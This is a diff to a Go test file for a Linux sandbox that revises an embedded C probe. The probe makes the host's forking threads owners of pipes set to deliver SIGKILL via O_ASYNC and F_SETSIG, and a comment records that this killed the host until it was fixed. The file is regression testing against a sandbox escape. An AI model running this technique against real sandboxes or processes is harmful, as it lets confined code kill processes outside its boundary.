@@ -70,13 +70,14 @@ func helperSigioHost() int {
 	return 0
 }
 
-// sigioProbe, run as a tree's leader, makes 64 pipes whose read ends ask
-// for a signal (its first argument, SIGKILL by default) on each write
-// (O_ASYNC, F_SETSIG), and 100 times lists its parent's threads
-// (/proc/$PPID/task), makes each thread the owner of one pipe
-// (F_SETOWN_EX with F_OWNER_TID) and writes to it, so that the kernel
-// sends that thread the signal. Static, so that it starts without the
-// loader's milliseconds.
+// sigioProbe, run as a tree's leader, 100 times lists its parent's
+// threads (/proc/$PPID/task), makes each thread the owner of a pipe
+// (F_SETOWN_EX with F_OWNER_TID) whose read end asks for a signal (its
+// first argument, SIGKILL by default) on each write (O_ASYNC, F_SETSIG),
+// and writes to it, so that the kernel sends that thread the signal. The
+// first listing comes first and each pipe is made on its first use:
+// the forking thread lives for microseconds after the tree starts.
+// Static, so that it starts without the loader's milliseconds.
 const sigioProbe = `#define _GNU_SOURCE
 #include <fcntl.h>
 #include <signal.h>
@@ -84,37 +85,38 @@ const sigioProbe = `#define _GNU_SOURCE
 #include <stdlib.h>
 #include <sys/syscall.h>
 #include <unistd.h>
-int main(int argc, char **argv) {
-	int sig = argc > 1 ? atoi(argv[1]) : SIGKILL;
-	int ppid = getppid(), rd[64], wr[64];
-	char path[64], buf[8192];
-	for (int i = 0; i < 64; i++) {
+static int sig, rd[64], wr[64], made;
+/* aim makes thread t the owner of pipe i, made on first use, and writes
+   to it: the kernel then sends t the signal. */
+static void aim(int i, int t) {
+	if (i == made) {
 		int p[2];
-		if (pipe2(p, O_NONBLOCK)) return 1;
+		if (pipe2(p, O_NONBLOCK)) exit(1);
 		fcntl(p[0], F_SETSIG, sig);
 		fcntl(p[0], F_SETFL, O_ASYNC | O_NONBLOCK);
 		rd[i] = p[0];
 		wr[i] = p[1];
+		made++;
 	}
-	snprintf(path, sizeof path, "/proc/%d/task", ppid);
+	struct f_owner_ex o = {F_OWNER_TID, t};
+	fcntl(rd[i], F_SETOWN_EX, &o);
+	if (write(wr[i], "x", 1) < 0) {
+		char c;
+		while (read(rd[i], &c, 1) > 0) {
+		}
+	}
+}
+int main(int argc, char **argv) {
+	sig = argc > 1 ? atoi(argv[1]) : SIGKILL;
+	char path[64], buf[8192];
+	snprintf(path, sizeof path, "/proc/%d/task", getppid());
 	for (int round = 0; round < 100; round++) {
 		int fd = open(path, O_RDONLY | O_DIRECTORY), n = 0;
 		long r;
 		while (fd >= 0 && (r = syscall(SYS_getdents64, fd, buf, sizeof buf)) > 0)
-			for (long off = 0; off < r;) {
-				unsigned short reclen = *(unsigned short *)(buf + off + 16);
+			for (long off = 0; off < r; off += *(unsigned short *)(buf + off + 16)) {
 				int t = atoi(buf + off + 19);
-				if (t > 0 && n < 64) {
-					struct f_owner_ex o = {F_OWNER_TID, t};
-					fcntl(rd[n], F_SETOWN_EX, &o);
-					if (write(wr[n], "x", 1) < 0) {
-						char c;
-						while (read(rd[n], &c, 1) > 0) {
-						}
-					}
-					n++;
-				}
-				off += reclen;
+				if (t > 0 && n < 64) aim(n++, t);
 			}
 		if (fd >= 0) close(fd);
 	}
@@ -170,8 +172,8 @@ func killedBySIGKILL(err error) bool {
 // a thread of any uid, capabilities or not, and Landlock's
 // file_send_sigiotask hook allows it within one domain. A root tree that
 // made the forking thread the owner of a pipe with F_SETSIG(SIGKILL)
-// ended the host (exit 137) within the first dozen Starts here. The tree
-// is now held stopped until the thread is gone, as without root.
+// ended the host (exit 137) at the fifth Start by hand. The tree is now
+// held stopped until the thread is gone, as without root.
 func TestAttackForkingThreadSIGIO(t *testing.T) {
 	requireSandbox(t)
 	dir := t.TempDir()
